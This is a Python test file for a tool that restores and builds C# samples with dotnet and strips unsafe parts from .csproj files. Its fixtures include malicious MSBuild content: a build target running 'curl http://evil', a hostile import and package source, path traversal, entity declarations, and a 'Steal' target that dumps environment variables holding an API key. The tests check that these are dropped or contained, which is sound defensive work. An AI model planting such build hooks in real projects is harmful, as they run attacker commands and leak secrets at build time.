"""Proofs of a sample in C#. Those that build need `dotnet` on the PATH and are slow; what fetches packages is pure."""

import shutil
from pathlib import Path

import pytest

from prove import Proof, plan, prove, read_pack
from prove.csharp_projects import bare_projects
from tests.prove.conftest import ProveOne, write_pack

PROJECT = '<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><TargetFramework>net10.0</TargetFramework></PropertyGroup></Project>'
GOOD = {
    "sample/src/Domain/Domain.csproj": PROJECT,
    "sample/src/Domain/Order.cs": "namespace Orders;\n\npublic sealed record Order(string Id);\n",
}
with_dotnet = pytest.mark.skipif(shutil.which("dotnet") is None, reason="C# is proved where dotnet is on the PATH")


def bare(text: str) -> tuple[str, str]:
    files, unread = bare_projects({"src/Api/Api.csproj": text.encode()})
    return files.get("src/Api/Api.csproj", ""), unread


def test_a_bare_project_holds_packages_and_references_and_nothing_that_runs():
    text, unread = bare(
        """<Project Sdk="Microsoft.NET.Sdk.Web" InitialTargets="Phone">
          <Import Project="evil.targets" />
          <PropertyGroup><TargetFramework>net10.0</TargetFramework><RestoreSources>http://evil</RestoreSources></PropertyGroup>
          <ItemGroup>
            <PackageReference Include="xunit" Version="2.9.3" />
            <PackageReference Include="Serilog"><Version>4.0.0</Version></PackageReference>
            <ProjectReference Include="../Domain/Domain.csproj" />
            <Compile Include="../../secret.cs" />
          </ItemGroup>
          <Target Name="Phone"><Exec Command="curl http://evil" /></Target>
        </Project>"""
    )
    assert unread == ""
    for kept in ('"xunit" Version="2.9.3"', '"Serilog" Version="4.0.0"', "../Domain/Domain.csproj", "net10.0"):
        assert kept in text
    for dropped in ("evil", "Exec", "Import", "InitialTargets", "secret"):
        assert dropped not in text


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ('<Project Sdk="Evil.Sdk/1.0" />', "has the SDK"),
        ('<Project Sdk="Microsoft.NET.Sdk"><ItemGroup><PackageReference Include="a" Version="$([System.IO.File]::ReadAllText(x))"/></ItemGroup></Project>', "computed"),
        ('<Project Sdk="Microsoft.NET.Sdk"><ItemGroup><ProjectReference Include="../../../x/x.csproj"/></ItemGroup></Project>', "outside the sample"),
        ('<!DOCTYPE p [<!ENTITY a "b">]><Project Sdk="Microsoft.NET.Sdk" />', "declares entities"),
        ("<Project", "is no XML"),
    ],
)  # fmt: skip
def test_what_cannot_be_made_bare_is_said_and_not_fetched(text: str, told: str):
    assert told in bare(text)[1]


def test_without_dotnet_it_is_said_to_be_not_proved(prove_one: ProveOne, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("PATH", "/nonexistent")
    proof = prove_one("csharp-builds", GOOD)
    assert (proof.outcome, proof.reason) == ("not provable", "there is no .NET SDK on the PATH")


def built(folder: Path, files: dict[str, str]) -> tuple[Proof, Proof]:
    """The proofs that it restores and builds."""
    proofs = prove(plan(read_pack(write_pack(folder, files)), only=["csharp-restores", "csharp-builds"])).proofs
    return proofs[0], proofs[1]


@pytest.mark.slow
@with_dotnet
def test_a_sample_that_restores_and_builds_is_proved(tmp_path: Path):
    assert [each.outcome for each in built(tmp_path, GOOD)] == ["proved", "proved"]


@pytest.mark.slow
@with_dotnet
def test_a_name_that_no_file_declares_is_refuted_with_its_place(tmp_path: Path):
    wrong = {"sample/src/Domain/Refund.cs": "namespace Orders;\n\npublic sealed record Refund(Money Amount);\n"}
    restored, compiled = built(tmp_path, {**GOOD, **wrong})
    assert (restored.outcome, compiled.outcome) == ("proved", "refuted")
    assert "src/Domain/Refund.cs:3," in compiled.reason
    assert "CS0246" in compiled.reason


@pytest.mark.slow
@with_dotnet
def test_a_package_that_does_not_exist_is_refuted_by_its_name(tmp_path: Path):
    item = '<ItemGroup><PackageReference Include="No.Such.Package.Of.Ours" Version="1.0.0" /></ItemGroup></Project>'
    files = {**GOOD, "sample/src/Domain/Domain.csproj": PROJECT.replace("</Project>", item)}
    restored, compiled = built(tmp_path, files)
    if "cannot be reached" in restored.reason:
        pytest.skip("NuGet's sources cannot be reached from here")
    assert (restored.outcome, compiled.outcome) == ("refuted", "not provable")
    assert "No.Such.Package.Of.Ours" in restored.reason


@pytest.mark.slow
@with_dotnet
def test_a_project_file_that_runs_programs_finds_nothing_of_the_caller(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("ANTHROPIC_API_KEY", "the-callers-key")
    stolen = tmp_path / "stolen"
    target = f'<Target Name="Steal" BeforeTargets="Restore;Build"><Exec Command="env &gt; {stolen}; env; exit 3" /></Target></Project>'
    files = {**GOOD, "sample/src/Domain/Domain.csproj": PROJECT.replace("</Project>", target)}
    restored, compiled = built(tmp_path / "pack", files)
    assert "refuted" in (restored.outcome, compiled.outcome)
    assert not stolen.exists()
    assert "the-callers-key" not in str((restored, compiled))
